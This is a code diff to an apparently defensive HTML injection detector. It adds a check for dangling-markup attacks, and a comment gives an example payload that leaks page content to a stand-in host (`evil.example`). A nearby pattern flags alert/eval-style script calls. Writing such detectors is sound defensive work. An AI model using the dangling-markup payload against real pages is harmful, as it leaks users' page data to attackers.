@@ -63,8 +63,22 @@ export const judgeAttribute = (
     report('xss-handler', 1, at, true)
     return HANDLER
   }
+  if (isDangling(text, name, attribute)) {
+    report('xss-markup', 1, at, true)
+    return HANDLER
+  }
   return LOADING.has(name) || (element === 'xml' && name === 'id') ? LOADS : PLAIN
 }
+
+/** `<img src='//evil.example/?`: a quote that is left open, so that what the page has behind it is sent along. */
+const isDangling = (text: string, name: string, { start, stop }: Attribute): boolean => {
+  if (stop < text.length || stop - start > DANGLING_MAX || start === 0) return false
+  const quote = text.charCodeAt(start - 1)
+  if (quote !== 34 && quote !== 39) return false
+  return URL_ATTRIBUTES.has(name) && /^(?:https?:)?\/\/[^\s]*[?&=]$/i.test(text.slice(start, stop))
+}
+
+const DANGLING_MAX = 120
 
 /** Whatever the attribute is called: no value of markup begins so. */
 const CALLED = /^\s?(?:alert|confirm|prompt|eval)[(`]/
